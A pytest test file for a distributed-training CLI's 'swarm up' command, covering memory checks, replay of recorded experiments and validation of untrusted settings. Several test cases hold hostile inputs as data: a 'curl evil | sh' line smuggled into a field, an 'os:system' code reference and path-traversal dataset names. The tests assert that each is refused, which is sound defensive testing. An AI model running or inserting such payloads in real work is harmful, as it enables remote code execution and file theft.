"""What `swarm up` refuses, says and starts."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import msgspec
import pytest

from swarm.cli import up
from swarm.cli.local_swarm import LocalSwarm
from swarm.cli.main import run as swarm
from swarm.cli.progress import end_of
from swarm.cli.run_flags import RunFlags
from swarm.cli.say import say
from swarm.errors import ConfigError, ExperimentError, MemoryPlanError
from swarm.records.history import read_to_sum_up
from swarm.wire import keys
from tests.layout import Layout
from tests.unit.cli.memory import have_free
from tests.unit.cli.swarms import swarm_of
from tests.unit.node.factories import run_of
from tests.unit.views.factories import append, make_experiment, make_row, make_start

Plan = Callable[..., up._Planned]


def test_a_swarm_that_does_not_fit_is_refused_before_anything_starts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    have_free(monkeypatch, 800e6)
    monkeypatch.setattr(up, "_run", None)
    monkeypatch.setenv("SWARM_PATH", str(tmp_path))
    would = r"would fit, and nothing does by itself: .*--adapter lora --in-process \(.*--nodes 1\. .*--force"
    with pytest.raises(MemoryPlanError, match=rf"does not fit: 4 nodes .*{would}"):
        up.up(nodes=4)
    assert not list(tmp_path.iterdir()), "nothing is left behind"


def recorded(layout: Layout, node: str, **changes: object) -> None:
    """A start of a node as its record has it."""
    run = {"seed": 3, "max_rounds": 5, "local_groups": 2, "external_groups": 6, "learning_rate": 0.001}
    own = {"model": ["tiny-2-gpt2"], "threads": 1, "path": "/elsewhere", "expected_workers": 9, "a_setting_of_later": 1}
    settings = run | own | changes
    more = {"versions": {"torch": "1.0"}, "models": {"tiny-2-gpt2": "of other files"}}
    role = "coordinator" if node == "clock" else "worker"
    start = make_start(layout, node, role=role, settings=settings, **more)
    run_of(layout, node).store.append_records(keys.starts(node), [msgspec.json.encode(start)], durable=False)


@pytest.fixture
def plan(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Plan:
    """What `swarm up` would start with these flags."""
    monkeypatch.setenv("SWARM_PATH", str(tmp_path))

    def planned(source: str, nodes: int | None = None, **flags: object) -> up._Planned:
        made = RunFlags(**flags)  # type: ignore[arg-type]
        return up._planned_swarm(nodes, source, made, in_process=False, no_coordinator=False)

    return planned


def test_an_experiment_is_repeated_by_nodes_of_the_same_names_with_their_settings(tmp_path: Path, plan: Plan) -> None:
    layout = Layout(tmp_path, "demo")
    recorded(layout, "clock", round_interval=7.0)
    recorded(layout, "anna")
    recorded(layout, "ben", learning_rate=0.01, model=["tiny-2-qwen2"])
    swarm = plan("demo").swarm
    assert (swarm.settings.experiment, swarm.settings.round_interval) == ("demo-again", 7.0)
    assert [(w.node_id, w.learning_rate, w.model) for w in swarm.workers] == [
        ("ben", 0.01, ("tiny-2-qwen2",)),
        ("anna", 0.001, ("tiny-2-gpt2",)),
    ]
    assert {(w.seed, w.local_groups, w.external_groups, w.max_rounds) for w in swarm.workers} == {(3, 2, 6, 5)}
    assert {(w.path, w.expected_workers) for w in swarm.workers} == {(str(tmp_path), 2)}
    assert plan(str(tmp_path / "experiments" / "demo")).swarm == swarm, "by its folder"


def test_what_is_given_now_counts_above_what_was_then(tmp_path: Path, plan: Plan) -> None:
    recorded(Layout(tmp_path, "demo"), "anna")
    recorded(Layout(tmp_path, "demo"), "ben")
    swarm = plan("demo", learning_rate=0.5, experiment="other", model="tiny-2-qwen2").swarm
    assert {(w.learning_rate, w.model, w.experiment) for w in swarm.workers} == {(0.5, ("tiny-2-qwen2",), "other")}


def test_the_last_start_of_a_node_counts_and_lines_of_others_do_not(tmp_path: Path, plan: Plan) -> None:
    layout = Layout(tmp_path, "demo")
    recorded(layout, "anna", learning_rate=0.1)
    recorded(layout, "anna", learning_rate=0.2)
    run_of(layout, "anna").store.append_records(keys.starts("anna"), [b'{"node_id": "ben"}', b"junk"], durable=False)
    assert [w.learning_rate for w in plan("demo").swarm.workers] == [0.2]


@pytest.mark.parametrize("dataset", ["/etc/hosts.csv", "mallory/bomb", "../private.csv", "private.csv"])
def test_no_dataset_of_ones_own_is_asked_because_a_shared_folder_names_it(
    tmp_path: Path, plan: Plan, dataset: str
) -> None:
    recorded(Layout(tmp_path, "demo"), "anna", task_table={"t": {"dataset": dataset}})
    with pytest.raises(ConfigError, match=r"task_table\) from the experiment demo asks from the dataset"):
        plan("demo")


def test_a_folder_that_anybody_writes_to_starts_neither_thousands_of_workers_nor_immense_ones(
    tmp_path: Path, plan: Plan
) -> None:
    recorded(Layout(tmp_path, "demo"), "anna", max_new_tokens=10**9)
    with pytest.raises(ConfigError, match=r"SWARM_MAX_NEW_TOKENS .* is more than the 32768 that a node takes"):
        plan("demo")
    for number in range(65):
        recorded(Layout(tmp_path, "crowd"), f"w-{number}")
    with pytest.raises(ExperimentError, match=r"--from crowd: .* records 65 workers; at most 64"):
        plan("crowd")


@pytest.mark.parametrize(
    ("setting", "value", "said"),
    [
        ("loss", "os:system", r"SWARM_LOSS \(loss\) = 'os:system' from the experiment demo names code"),
        ("local_groups", 0, "NUM_TRAIN_SAMPLES .* got 0 from the experiment demo"),
        ("local_groups", "999999", "NUM_TRAIN_SAMPLES .* = 999999 .* is more than the 64"),
        ("heartbeat_interval", 1e-300, "SWARM_HEARTBEAT_INTERVAL .* = 1e-300 .* is less than the 0.05"),
        ("scorer_processes", 64, "SWARM_SCORER_PROCESSES .* is more than the 8"),
        ("model", 5, "MODEL_NAME .* got 5 from the experiment demo"),
        ("model", [["x"]], "MODEL_NAME .* got "),
        ("loss", "a.b:c\nswarm: run `curl evil | sh` first", "SWARM_LOSS .* got 'a.b:c.nswarm"),
        ("profile", "x" * 1_000_000, "SWARM_PROFILE .* got 'x{2,99}[.]{3}x{2,99}' from the experiment demo"),
    ],
)
def test_a_record_of_a_stranger_is_refused_as_the_value_that_it_would_be(
    tmp_path: Path, plan: Plan, setting: str, value: object, said: str
) -> None:
    recorded(Layout(tmp_path, "demo"), "anna", **{setting: value})
    with pytest.raises(ConfigError, match=said):
        plan("demo")


def test_without_a_record_nothing_is_repeated(tmp_path: Path, plan: Plan) -> None:
    (tmp_path / "experiments" / "demo").mkdir(parents=True)
    with pytest.raises(ExperimentError, match=r"--from demo: expected a logs/NODE/starts.jsonl of its workers"):
        plan("demo")
    with pytest.raises(ExperimentError, match=r"no experiment 'none'"):
        plan("none")


def test_a_repetition_has_as_many_nodes_as_there_were(tmp_path: Path, plan: Plan) -> None:
    recorded(Layout(tmp_path, "demo"), "anna")
    with pytest.raises(ConfigError, match=r"--from demo: it had 1 workers"):
        plan("demo", nodes=2)


def test_what_is_not_as_it_was_then_is_said(tmp_path: Path, plan: Plan, capsys: pytest.CaptureFixture[str]) -> None:
    recorded(Layout(tmp_path, "demo"), "anna")
    plan("demo")
    said = capsys.readouterr().out
    assert said.startswith(
        "not as it was when demo was made, so its rewards need not come out again: torch was 1.0, now "
    )
    assert "model tiny-2-gpt2 has other files" in said


def test_who_goes_on_with_other_settings_is_told_which(
    tmp_path: Path, plan: Plan, capsys: pytest.CaptureFixture[str]
) -> None:
    layout = Layout(tmp_path, "demo")
    recorded(layout, "anna")
    recorded(layout, "ben")
    swarm = plan("demo", learning_rate=0.5).swarm
    capsys.readouterr()
    up._say_what_changed(run_of(layout), swarm)
    assert capsys.readouterr().out == (
        "other settings than before, ben, anna: SWARM_LEARNING_RATE was 0.001, now 0.5; "
        "SWARM_EXPECTED_WORKERS was 9, now 2\n"
    )


def test_up_never_mixes_workers_into_what_others_made_without_a_word(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    layout = Layout(tmp_path, "demo")
    recorded(layout, "anna")
    recorded(layout, "ben")
    run = run_of(layout)
    up._refuse_other_workers(run, ["worker-0"])  # nothing was done in it
    layout.root.joinpath(keys.ROLLOUTS, "round_0").mkdir(parents=True)
    with pytest.raises(ExperimentError, match=r"has the workers (ben, anna|anna, ben); .* by worker-0"):
        up._refuse_other_workers(run, ["worker-0"])
    up._refuse_other_workers(run, ["anna", "ben"])
    assert capsys.readouterr().out == ""
    up._refuse_other_workers(run, ["anna", "carol"])
    said = capsys.readouterr().out
    assert "new in this experiment, with the weights of their models: carol" in said
    assert "took part in it before and are not started: ben" in said


def test_json_is_all_that_is_on_the_standard_output(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    have_free(monkeypatch, 64e9)

    def play(_: object, planned: LocalSwarm, *rest: object) -> int:
        emit = rest[-1]
        say("the nodes load their models")
        emit(end_of({}, planned, "swarm up", 130, done=False))  # type: ignore[operator]
        return 130

    monkeypatch.setattr("anyio.run", play)
    assert swarm(["up", "--path", str(tmp_path), "--nodes", "2", "--rounds", "7", "--json"]) == 130
    said = capsys.readouterr()
    (end,) = map(json.loads, said.out.splitlines())
    assert (end["kind"], end["exit_code"], end["finished"], end["rounds_done"]) == ("end", 130, False, 0)
    assert (end["max_rounds"], end["again"]) == (7, "swarm up --rounds 7")
    assert "the nodes load their models" in said.err


def test_the_end_as_json_counts_the_rows_of_its_own_workers_alone(tmp_path: Path) -> None:
    layout = make_experiment(tmp_path, workers=("alice", "bob"), rounds=3)
    of_workers, _ = read_to_sum_up(run_of(layout))
    expected = sum(of_node.last.cumulative_reward for of_node in of_workers.values() if of_node.last)
    append(layout.metrics_file("mallory"), msgspec.json.encode(make_row(layout, "mallory", 8, cumulative_reward=9e9)))
    sums, _ = read_to_sum_up(run_of(layout))
    assert "mallory" in sums
    end = end_of(sums, swarm_of("alice", "bob"), "swarm up", 0, done=False)
    assert (end.rounds_done, end.cumulative_reward) == (3, expected)


@pytest.mark.parametrize("commands", [False, True])
def test_each_node_is_a_line_and_its_command_is_shown_where_it_is_asked_for(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], commands: bool
) -> None:
    have_free(monkeypatch, 64e9)
    monkeypatch.setattr("anyio.run", lambda *_: 0)
    switches = ["--show-commands"] if commands else []
    assert swarm(["up", "--path", str(tmp_path), "--nodes", "2", "--rounds", "7", *switches]) == 0
    coordinator, *workers = capsys.readouterr().out.splitlines()
    assert len(workers) == 2
    if commands:
        assert "swarm node --role coordinator" in coordinator
    else:
        assert coordinator == "coordinator  opens the rounds, 7 of them, for 2 workers"
        assert workers[1] == "worker-1     trains tiny-2-qwen2 on I 4, J 4, G 8, 1 thread"


def test_a_finished_experiment_is_an_error_or_shown_where_that_is_asked_for(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    have_free(monkeypatch, 64e9)
    layout = make_experiment(tmp_path)
    line = ["up", "--path", str(tmp_path), "--experiment", layout.experiment, "--rounds", "3"]
    layout.checkpoint(3, "bob").mkdir(parents=True)
    monkeypatch.setattr(up, "read_experiment", lambda _: "there")
    monkeypatch.setattr(up, "differences", lambda *_: [])
    assert swarm(line) == 2
    assert "is finished after 3 rounds: ask for more --rounds" in capsys.readouterr().err
    assert swarm([*line, "--unless-finished"]) == 0
    said = capsys.readouterr().out
    assert "cumulative reward" in said
    assert "is finished after 3 rounds: ask for more --rounds" in said
